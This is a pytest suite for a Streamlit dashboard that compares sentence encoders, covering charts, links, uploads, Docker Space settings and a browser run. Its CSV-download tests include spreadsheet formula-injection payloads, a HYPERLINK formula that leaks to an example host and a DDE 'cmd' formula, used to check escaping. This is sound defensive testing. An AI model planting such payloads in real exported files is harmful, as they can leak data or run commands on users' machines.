"""The Streamlit dashboard: every section renders, and bad input becomes a message, not a traceback.

Most tests drive ``dashboard/app.py`` in-process with Streamlit's ``AppTest``; the last one
starts the real server on a loopback port and drives it in headless Chromium with Playwright
(a click on the PCA map, and a link that reopens the view). The dashboard's Docker Space
(``dashboard/space/``) is checked here by reading its Dockerfile and its front matter, and in
``test_dashboard_image.py`` by building and running its image.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from streamlit.proto.WidgetStates_pb2 import WidgetStates
from streamlit.testing.v1 import AppTest

from dashboard_browser import BENCHMARK_TAB, drive_the_dashboard, skip_without_a_browser
from servers import free_loopback_port, stop, wait_until_answering
from t2i_core.pipelines.encoder_comparison import pairs_table_csv, spreadsheet_text

ROOT = Path(__file__).resolve().parents[1]
APP = ROOT / "dashboard" / "app.py"
SPACE = ROOT / "dashboard" / "space"
LIST, UPLOAD = "A list of sentences", "Your sentence pairs"


@pytest.fixture(scope="module")
def encoder_names() -> list[str]:
    import t2i_core

    return t2i_core.load_pipeline("encoder-comparison").encoder_names


@pytest.fixture
def app(monkeypatch, tmp_path) -> AppTest:
    """The dashboard after its first run, reading benchmark results from a file that does not exist."""
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(tmp_path / "no-results.json"))
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.run()
    assert not at.exception, at.exception
    return at


def metrics(at: AppTest) -> dict[str, str]:
    """Encoder name -> the value its metric shows."""
    return {m.label.rsplit("·", 1)[-1].strip(): m.value for m in at.metric}


def charts(at: AppTest) -> dict[str, dict]:
    """Plotly chart key -> its figure as JSON."""
    found = {}
    for chart in at.get("plotly_chart"):
        key = chart.proto.id.split("-", 2)[-1]  # "$$ID-<hash>-<key>"
        found[key] = json.loads(chart.proto.spec)
    return found


def messages(at: AppTest) -> list[str]:
    return [e.value for e in at.error] + [w.value for w in at.warning]


def open_tab(at: AppTest, label: str) -> AppTest:
    """Open the tab called ``label``, as a click on it does: the tabs' state, then a rerun."""
    at.session_state["tab"] = label
    return at.run()


def opened_with(link: dict[str, str], monkeypatch, tmp_path) -> AppTest:
    """The dashboard opened from a URL whose query parameters are ``link``."""
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(tmp_path / "no-results.json"))
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.query_params.update(link)
    return at.run()


def benchmark_tab() -> AppTest:
    """The dashboard opened on its benchmark tab, from a link (``?tab=Benchmark+results``)."""
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.query_params["tab"] = BENCHMARK_TAB
    return at.run()


def click_point(at: AppTest, chart_key: str, sentence: int) -> AppTest:
    """Rerun as the browser does after a click on sentence ``sentence``'s point of a map.

    AppTest has no handle on a plotly chart's selection (and Streamlit refuses to set one
    through session state), so this sends the widget state the frontend sends: the
    selection as JSON, its point carrying the ``customdata`` the figure gave it. The real
    click is in the browser test.
    """
    (chart,) = [c for c in at.get("plotly_chart") if c.proto.id.endswith(f"-{chart_key}")]
    states = WidgetStates()
    states.CopyFrom(at._tree.get_widget_states())
    state = states.widgets.add()
    state.id = chart.proto.id
    point = {"curve_number": 0, "point_number": 0, "point_index": 0, "x": 0.0, "y": 0.0, "customdata": sentence}
    state.string_value = json.dumps({"selection": {"points": [point], "point_indices": [0], "box": [], "lasso": []}})
    return at._run(states)


# ---------------------------------------------------------------- two sentences


def test_default_page_shows_a_cosine_per_encoder_glove_one_and_use_below_one(app, encoder_names):
    shown = metrics(app)
    assert sorted(shown) == sorted(encoder_names)
    assert shown["glove-avg"] == "1.000"
    assert float(shown["use"]) < 1.0
    assert any("identical" in s.value for s in app.success)
    assert not app.error


def test_changing_a_sentence_updates_the_metrics(app):
    before = metrics(app)
    app.text_input(key="sentence_b").set_value("a dog runs across the park").run()
    after = metrics(app)
    assert not app.exception
    assert after["glove-avg"] != "1.000"
    assert after["use"] != before["use"]
    assert not any("identical" in s.value for s in app.success)


def test_unknown_words_are_named(app):
    app.text_input(key="sentence_a").set_value("red rose with yellow stem qwzxv").run()
    assert not app.exception
    assert any("qwzxv" in w.value for w in app.warning)


@pytest.mark.parametrize(
    "sentence, expected",
    [("", "empty"), ("w" * 10_000, "10,000 characters"), ("🌹🌹🌹", "no letters or digits")],
    ids=["empty", "ten-thousand-characters", "emoji-only"],
)
def test_bad_sentences_give_a_message_not_an_exception(app, sentence, expected):
    app.text_input(key="sentence_a").set_value(sentence).run()
    assert not app.exception
    assert any(expected in m for m in messages(app)), messages(app)
    # The other sections still render.
    assert "similarity_use" in charts(app)


# ---------------------------------------------------------------- a list of sentences


def test_glove_heatmap_shows_both_sentences_and_the_two_averages(app):
    figure = charts(app)["glove_heatmap"]
    rows = [label for trace in figure["data"] for label in trace["y"]]
    assert rows[:5] == ["1. red", "2. rose", "3. with", "4. yellow", "5. stem"]
    assert rows[-2:] == ["average of A", "average of B"]
    assert all(len(row) == 50 for trace in figure["data"] for row in trace["z"])


def test_each_encoder_gets_a_similarity_heatmap_and_a_map_joining_swapped_pairs(app, encoder_names):
    found = charts(app)
    sentences = app.text_area(key="sentences").value.splitlines()
    assert len(sentences) == 12  # six flower captions, each followed by its swap
    for name in encoder_names:
        heatmap = found[f"similarity_{name}"]["data"][0]
        assert heatmap["type"] == "heatmap" and len(heatmap["y"]) == len(sentences)
        projection = found[f"projection_{name}"]["data"]
        assert sum(trace.get("mode") == "lines" for trace in projection) == 6


def test_presets_fill_the_sentence_list(app):
    app.selectbox(key="preset").set_value("roles").run()
    assert not app.exception
    assert "the dog chases the cat" in app.text_area(key="sentences").value
    found = charts(app)
    # dog/cat, man/dog and girl/horse swaps are joined; the passive paraphrases are not.
    assert sum(trace.get("mode") == "lines" for trace in found["projection_use"]["data"]) == 3


@pytest.mark.parametrize(
    "text, expected",
    [("just one sentence", "at least two"), ("a fine sentence\n" + "x" * 10_000, "10,000 characters")],
    ids=["one-line", "ten-thousand-characters"],
)
def test_a_bad_sentence_list_gives_a_message(app, text, expected):
    app.text_area(key="sentences").set_value(text).run()
    assert not app.exception
    assert any(expected in m for m in messages(app)), messages(app)
    assert "glove_heatmap" in charts(app)


def test_a_click_on_a_map_point_shows_its_nearest_neighbours_under_each_encoder(app, encoder_names):
    sentences = app.text_area(key="sentences").value.splitlines()
    assert not app.dataframe  # nothing chosen yet
    click_point(app, "projection_glove-avg", 2)
    assert not app.exception
    assert app.selectbox(key="neighbours_of").value == sentences[2]
    table = app.dataframe[0].value
    assert list(table["rank"]) == [1, 2, 3]
    assert set(table.columns) == {"rank"} | {f"{name}: {what}" for name in encoder_names for what in ("sentence", "cosine")}
    # Sentence 3 and 4 are a flower caption and its order-swapped twin: glove-avg cannot part them.
    assert table["glove-avg: sentence"][0] == f"4. {sentences[3]}"
    assert table["glove-avg: cosine"][0] == pytest.approx(1.0)
    assert table["use: cosine"][0] < 1.0 - 1e-4
    # Both maps ring the chosen sentence.
    for name in encoder_names:
        rings = [t for t in charts(app)[f"projection_{name}"]["data"] if t.get("marker", {}).get("symbol") == "circle-open"]
        assert [ring["customdata"] for ring in rings] == [[2]]


def test_a_click_on_a_pair_line_chooses_nothing(app):
    click_point(app, "projection_use", None)  # a point of an order-swapped pair's line has no customdata
    assert not app.exception
    assert app.selectbox(key="neighbours_of").value is None and not app.dataframe


def test_a_changed_sentence_list_drops_a_choice_that_is_no_longer_in_it(app):
    click_point(app, "projection_use", 0)
    assert app.dataframe
    app.text_area(key="sentences").set_value("the dog chases the cat\nthe cat chases the dog").run()
    assert not app.exception
    assert app.selectbox(key="neighbours_of").value is None and not app.dataframe
    assert "projection_use" in charts(app)


def test_nearest_neighbours_leave_the_sentence_out_and_put_its_swapped_twin_first_under_glove_avg():
    import t2i_core

    sentences = ["the dog chases the cat", "a red rose", "the cat chases the dog", "a dog runs in the park"]
    compared = t2i_core.load_pipeline("encoder-comparison")(sentences)
    found = compared.nearest_neighbours(0, k=2)
    assert set(found) == set(compared.similarities)
    for name, neighbours in found.items():
        assert len(neighbours) == 2 and 0 not in [j for j, _ in neighbours]
        assert [c for _, c in neighbours] == sorted((c for _, c in neighbours), reverse=True)
        assert neighbours[0][1] == pytest.approx(compared.similarities[name][0, neighbours[0][0]])
    assert found["glove-avg"][0] == (2, pytest.approx(1.0))
    assert len(compared.nearest_neighbours(3, k=10)["use"]) == 3
    with pytest.raises(IndexError):
        compared.nearest_neighbours(4)


# ---------------------------------------------------------------- tabs compute only when open


def test_hidden_tabs_compute_nothing(app):
    # The first tab is open: its charts are there, the benchmark's and the upload's elements are not.
    assert {"similarity_use", "projection_use"} <= set(charts(app))
    assert not app.info and not app.code and not app.get("file_uploader")
    open_tab(app, BENCHMARK_TAB)
    assert not app.exception
    assert any("No benchmark results yet" in i.value for i in app.info)
    assert set(charts(app)) == {"glove_heatmap"}  # the list's heatmaps and maps did not run
    assert not app.get("text_area") and not app.get("file_uploader")
    open_tab(app, UPLOAD)
    assert app.get("file_uploader") and not app.info and set(charts(app)) == {"glove_heatmap"}
    open_tab(app, LIST)  # back again: the list is as it was
    assert len(app.text_area(key="sentences").value.splitlines()) == 12 and "projection_use" in charts(app)


# ---------------------------------------------------------------- links: the URL holds the view


def test_a_link_reopens_the_same_view(monkeypatch, tmp_path, encoder_names):
    link = {
        "sentence_a": "the dog chases the cat", "sentence_b": "the cat chases the dog", "tab": LIST, "preset": "roles",
        "sentences": "the dog chases the cat\nthe cat chases the dog\na red rose", "neighbours_of": "the cat chases the dog",
    }
    at = opened_with(link, monkeypatch, tmp_path)
    assert not at.exception and not at.error and not at.info
    assert at.text_input(key="sentence_a").value == link["sentence_a"] and at.text_input(key="sentence_b").value == link["sentence_b"]
    assert metrics(at)["glove-avg"] == "1.000"
    assert at.selectbox(key="preset").value == "roles"
    assert at.text_area(key="sentences").value == link["sentences"]  # the link's list, not the preset's
    assert at.selectbox(key="neighbours_of").value == "the cat chases the dog"
    assert at.dataframe[0].value["glove-avg: sentence"][0] == "1. the dog chases the cat"
    # Every value was read and kept, so the URL still describes the view; only the open tab, the
    # default one, leaves it (Streamlit keeps a bound tab in the URL only when it is not the first).
    assert at.query_params == {name: value for name, value in link.items() if name != "tab"}


def test_a_link_opens_a_hidden_tab_without_computing_the_others(monkeypatch, tmp_path):
    at = opened_with({"tab": BENCHMARK_TAB}, monkeypatch, tmp_path)
    assert not at.exception
    assert any("No benchmark results yet" in i.value for i in at.info)
    assert set(charts(at)) == {"glove_heatmap"}


def test_a_link_with_values_the_page_does_not_have_falls_back_with_a_message(monkeypatch, tmp_path):
    link = {"tab": "Nope", "preset": "poems", "neighbours_of": "not a listed sentence", "sentence_b": "x" * 10_000, "colour": "red"}
    at = opened_with(link, monkeypatch, tmp_path)
    assert not at.exception
    notes = [i.value for i in at.info]
    assert any("`tab=Nope`" in n and "`preset=poems`" in n for n in notes), notes
    assert any("`neighbours_of=not a listed sentence`" in n for n in notes), notes
    assert any("10,000 characters" in m for m in messages(at))  # a sentence from a link is checked like a typed one
    # The defaults: the first tab, the flower preset, nothing chosen.
    assert "projection_use" in charts(at)
    assert len(at.text_area(key="sentences").value.splitlines()) == 12
    assert at.selectbox(key="neighbours_of").value is None
    assert {"tab", "preset", "neighbours_of"}.isdisjoint(at.query_params)  # dropped from the URL
    at.run()  # the next run has nothing left to complain about
    assert not at.exception and not at.info


# ---------------------------------------------------------------- benchmark results


def test_missing_benchmark_results_say_how_to_make_them(app):
    open_tab(app, BENCHMARK_TAB)
    assert any("No benchmark results yet" in i.value for i in app.info)
    assert any("eval encoders" in c.value for c in app.code)


BENCHMARK = {
    "encoders": {
        "use": {
            "triplets": {
                "encoder": "use", "n": 4, "mean_cosine_swap": 0.8, "mean_cosine_paraphrase": 0.9, "accuracy": 0.75,
                "by_kind": {
                    "attribute": {"n": 2, "mean_cosine_swap": 0.9, "mean_cosine_paraphrase": 0.85, "accuracy": 0.5},
                    "role": {"n": 2, "mean_cosine_swap": 0.7, "mean_cosine_paraphrase": 0.95, "accuracy": 1.0},
                },
                "wrong": [{"kind": "attribute", "anchor": "a red rose with a yellow stem", "paraphrase": "a rose with red petals and a yellow stem",
                           "swap": "a yellow rose with a red stem", "cosine_paraphrase": 0.8, "cosine_swap": 0.9}],
            },
            "probe": {"heldout_templates_both_right": 0.7, "heldout_pairs_both_right": 0.6, "test_both_right": 0.8,
                      "chance_both_right": 0.02, "train_captions": 924},
            "sts": None,
        },
        "glove-avg": {
            "triplets": {"encoder": "glove-avg", "n": 4, "mean_cosine_swap": 1.0, "mean_cosine_paraphrase": 0.9, "accuracy": 0.0,
                         "by_kind": {"role": {"n": 2, "mean_cosine_swap": 1.0, "accuracy": 0.0}}, "wrong": []},
            "probe": None,
            "sts": None,
        },
        "half-written": {},
    },
    "config": {"seed": 0},
}


def test_benchmark_results_become_bar_charts_and_a_table_of_wrong_triplets(monkeypatch, tmp_path):
    results = tmp_path / "encoders.json"
    results.write_text(json.dumps(BENCHMARK), encoding="utf-8")
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(results))
    at = benchmark_tab()
    assert not at.exception
    found = charts(at)
    assert {"bench_cosine_use", "bench_cosine_glove-avg", "bench_accuracy", "bench_probe"} <= set(found)
    # Accuracies only, no counts; chance is a line, not a bar.
    probe_measures = [x for trace in found["bench_probe"]["data"] for x in trace["x"]]
    assert probe_measures == ["test captions", "held-out templates", "held-out colour pairs"]
    assert found["bench_probe"]["layout"]["shapes"][0]["y0"] == 0.02
    tables = [d.value for d in at.dataframe]
    assert any("anchor" in t.columns and "a red rose with a yellow stem" in set(t["anchor"]) for t in tables)


def test_the_shipped_benchmark_results_render(monkeypatch):
    from t2i_core.pipelines.encoder_comparison import RESULTS_FILE

    if not RESULTS_FILE.is_file():
        pytest.skip(f"no shipped results at {RESULTS_FILE}")
    monkeypatch.delenv("T2I_ENCODER_RESULTS", raising=False)
    at = benchmark_tab()
    assert not at.exception
    assert not at.error
    assert "bench_accuracy" in charts(at)


def test_an_unreadable_benchmark_file_is_an_error_message(monkeypatch, tmp_path):
    results = tmp_path / "encoders.json"
    results.write_text("{not json", encoding="utf-8")
    monkeypatch.setenv("T2I_ENCODER_RESULTS", str(results))
    at = benchmark_tab()
    assert not at.exception
    assert any("could not be read" in e.value for e in at.error)


# ---------------------------------------------------------------- upload


def test_uploaded_pairs_get_a_cosine_per_encoder_and_a_download(app, encoder_names):
    table = b"sentence1\tsentence2\nthe dog chases the cat\tthe cat chases the dog\nred rose with yellow stem\tyellow rose with red stem\n"
    open_tab(app, UPLOAD).file_uploader(key="pairs_file").set_value(("pairs.tsv", table, "text/tab-separated-values")).run()
    assert not app.exception and not app.error
    frame = app.dataframe[-1].value
    assert list(frame.columns) == ["sentence1", "sentence2", *encoder_names]
    assert frame["glove-avg"].tolist() == pytest.approx([1.0, 1.0])
    assert [b.key for b in app.get("download_button")] == ["pairs_download"]


FORMULA_PAIRS = [
    ('=HYPERLINK("http://example.com/?leak","click me")', "the cat chases the dog"),
    ("-2+3 is a sum", "@SUM(A1:A9) in a cell"),
    ("red rose with yellow stem", "+ a yellow rose with a red stem"),
]


def test_the_downloaded_csv_keeps_formulas_as_text_and_cosines_as_numbers(app, encoder_names, monkeypatch):
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    downloads, store = {}, MemoryMediaFileStorage.load_and_get_id

    def keeping_what_is_served(self, data, mimetype, kind, filename=None):
        file_id = store(self, data, mimetype, kind, filename)
        downloads[self.get_url(file_id)] = self.get_file(file_id).content
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keeping_what_is_served)
    table = "sentence1\tsentence2\n" + "".join(f"{a}\t{b}\n" for a, b in FORMULA_PAIRS)
    open_tab(app, UPLOAD).file_uploader(key="pairs_file").set_value(("pairs.tsv", table.encode("utf-8"), "text/tab-separated-values")).run()
    assert not app.exception and not app.error
    shown = app.dataframe[-1].value
    assert list(shown["sentence1"]) == [a for a, _ in FORMULA_PAIRS]  # the page shows the sentences as typed
    (button,) = app.get("download_button")
    text = downloads[button.proto.url].decode("utf-8")
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://example.com/?leak"",""click me"")"')  # quoted text, not a formula

    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["sentence1"], r["sentence2"]) for r in rows] == [
        ("\'" + FORMULA_PAIRS[0][0], FORMULA_PAIRS[0][1]),
        ("\'" + FORMULA_PAIRS[1][0], "\'" + FORMULA_PAIRS[1][1]),
        (FORMULA_PAIRS[2][0], "\'" + FORMULA_PAIRS[2][1]),
    ]
    frame = pd.read_csv(io.StringIO(text))
    for name in encoder_names:  # the cosines come back as the same numbers
        assert frame[name].dtype == np.float64 and frame[name].tolist() == shown[name].tolist()


def test_only_text_cells_that_start_a_formula_are_escaped():
    for cell in ("=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd", "-0.5"):
        assert spreadsheet_text(cell) == "\'" + cell
    for cell in ("a = b", "rose", "", -0.5, 0.25, 3, None):
        assert spreadsheet_text(cell) == cell
    rows = [{"sentence1": "=cmd|' /C calc'!A0", "sentence2": "a - b", "use": -0.5, "glove-avg": 1.0}]
    assert pairs_table_csv(rows).decode("utf-8") == "sentence1,sentence2,use,glove-avg\n\'=cmd|\' /C calc\'!A0,a - b,-0.5,1.0\n"


@pytest.mark.parametrize(
    "content, expected",
    [(b"just one column\n", "row 1 has 1 column"), (b"\xff\xfe\x00\x81", "not UTF-8"), (b"sentence1,sentence2\n", "no sentence pairs"), (b"a,\n", "empty")],
    ids=["one-column", "not-utf8", "header-only", "empty-cell"],
)
def test_a_malformed_upload_gives_an_error_message(app, content, expected):
    open_tab(app, UPLOAD).file_uploader(key="pairs_file").set_value(("bad.csv", content, "text/csv")).run()
    assert not app.exception
    assert any(expected in e.value for e in app.error), [e.value for e in app.error]
    assert not app.get("download_button")


# ---------------------------------------------------------------- the shipped Streamlit settings


def test_the_shipped_streamlit_config_turns_usage_statistics_off_and_streamlit_reads_every_option(tmp_path):
    tomllib = pytest.importorskip("tomllib")  # Python 3.11+
    config_file = ROOT / ".streamlit" / "config.toml"
    written = {f"{section}.{name}": value for section, table in tomllib.loads(config_file.read_text(encoding="utf-8")).items()
               for name, value in table.items()}
    assert written["browser.gatherUsageStats"] is False
    # Streamlit reads .streamlit/config.toml from the folder it starts in: a fresh process there, with an empty
    # home (no ~/.streamlit) and no STREAMLIT_* variables. get_option raises for an option this Streamlit lacks.
    script = ("import json, sys; import streamlit.config as config; config.get_config_options(force_reparse=True); "
              "print(json.dumps({k: [config.get_option(k), config.get_where_defined(k)] for k in json.loads(sys.argv[1])}))")
    env = {k: v for k, v in os.environ.items() if not k.startswith("STREAMLIT_")} | {"HOME": str(tmp_path)}
    result = subprocess.run([sys.executable, "-c", script, json.dumps(list(written))], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "not a valid config option" not in result.stderr
    assert json.loads(result.stdout) == {name: [value, str(config_file)] for name, value in written.items()}


# ---------------------------------------------------------------- the dashboard's Docker Space


def dockerfile_instructions(path: Path) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) of a Dockerfile, in order: comments dropped, continued lines joined."""
    logical, current = [], ""
    for line in path.read_text(encoding="utf-8").splitlines():
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        current += line.rstrip().removesuffix("\\") + " " if line.rstrip().endswith("\\") else line.strip()
        if not line.rstrip().endswith("\\"):
            logical.append(current)
            current = ""
    return [(text.split(None, 1)[0].upper(), text.split(None, 1)[1].strip()) for text in logical]


def test_the_space_dockerfile_runs_the_dashboard_on_8501_as_the_uid_1000_user():
    steps = dockerfile_instructions(SPACE / "Dockerfile")
    kinds = [kind for kind, _ in steps]
    build_args = dict(args.split("=", 1) for kind, args in steps if kind == "ARG")
    # The Python the project and the Gradio Space use, unless a build names another base (build_image.py's stand-in).
    assert steps[:2] == [("ARG", "BASE_IMAGE=python:3.11-slim"), ("FROM", "${BASE_IMAGE}")]
    # Spaces run the container as uid 1000: the user exists, and everything after it runs as that user.
    (useradd,) = [args for kind, args in steps if kind == "RUN" and "useradd" in args]
    assert "-u 1000" in useradd and useradd.split()[-1] == "user"
    users = [args for kind, args in steps if kind == "USER"]
    assert users == ["user"] and kinds.index("USER") < kinds.index("COPY")
    env = " ".join(args for kind, args in steps if kind == "ENV")
    assert "HOME=/home/user" in env.split()
    # requirements.txt, with the pinned torch from PyTorch's CPU index rather than the CUDA build from PyPI:
    # pip reads the index from the build argument, declared before the install runs.
    ((at, install),) = [(i, shlex.split(args)) for i, (kind, args) in enumerate(steps) if kind == "RUN" and "pip install" in args]
    assert install[install.index("-r") + 1] == "requirements.txt" and "--extra-index-url" not in install
    assert build_args["PIP_EXTRA_INDEX_URL"] == "https://download.pytorch.org/whl/cpu"
    assert steps.index(("ARG", "PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cpu")) < at
    assert "torch==2.13.0" in (ROOT / "requirements.txt").read_text(encoding="utf-8").split()
    copied = [shlex.split(args)[-2] for kind, args in steps if kind == "COPY"]
    assert copied == ["requirements.txt", "."]

    assert [args for kind, args in steps if kind == "EXPOSE"] == ["8501"]
    (cmd,) = [json.loads(args) for kind, args in steps if kind == "CMD"]  # exec form: no shell between Docker and Streamlit
    assert cmd[:3] == ["streamlit", "run", "dashboard/app.py"] and (ROOT / cmd[2]).is_file()
    options = dict(zip(cmd[3::2], cmd[4::2]))
    assert options["--server.port"] == "8501" and options["--server.address"] == "0.0.0.0"
    import streamlit.config

    for name in options:  # each a real Streamlit option (get_option raises for one this Streamlit lacks)
        streamlit.config.get_option(name.removeprefix("--"))


def test_the_space_readme_front_matter_makes_a_docker_space_on_the_dockerfile_port():
    text = (SPACE / "README.md").read_text(encoding="utf-8")
    assert text.startswith("---\n")
    fields = yaml.safe_load(text.split("---\n")[1])
    assert fields["sdk"] == "docker" and "sdk_version" not in fields and "app_file" not in fields
    assert fields["app_port"] == 8501  # an int, as the Hub reads it
    assert [args for kind, args in dockerfile_instructions(SPACE / "Dockerfile") if kind == "EXPOSE"] == [str(fields["app_port"])]
    assert len(fields["short_description"]) <= 60  # the Hub's limit
    assert fields["license"] == "apache-2.0" and fields["suggested_hardware"] == "cpu-basic"
    assert {"title", "emoji", "colorFrom", "colorTo"} <= set(fields)
    # The push recipe copies exactly these two files to the Space's root.
    assert "cp dashboard/space/Dockerfile dashboard/space/README.md" in text


def test_the_space_gets_every_file_the_dashboard_needs_from_git():
    # The Space is made from `git archive HEAD`: what the image copies must be committed.
    listing = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True)
    if listing.returncode != 0:
        pytest.skip("not a git checkout")
    tracked = set(listing.stdout.splitlines())
    needed = {"requirements.txt", "dashboard/app.py", ".streamlit/config.toml", "dashboard/space/Dockerfile", "dashboard/space/README.md"}
    assert needed <= tracked, needed - tracked
    assert any(path.startswith("t2i_core/") for path in tracked)


# ---------------------------------------------------------------- the real server in a browser


def test_the_real_server_renders_and_reacts_in_a_browser(tmp_path):
    skip_without_a_browser()

    port = free_loopback_port()
    log = (tmp_path / "server.log").open("wb")
    server = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "dashboard/app.py", "--server.headless", "true",
         "--server.address", "127.0.0.1", "--server.port", str(port), "--browser.gatherUsageStats", "false"],
        cwd=ROOT, stdout=log, stderr=subprocess.STDOUT, env={**os.environ, "T2I_ENCODER_RESULTS": str(tmp_path / "none.json")},
    )
    try:
        wait_until_answering(f"http://127.0.0.1:{port}/_stcore/health", server)
        drive_the_dashboard(f"http://127.0.0.1:{port}/", tmp_path, benchmark_results=False)
    finally:
        stop(server)
        log.close()
    assert "Traceback" not in (tmp_path / "server.log").read_text(errors="replace")
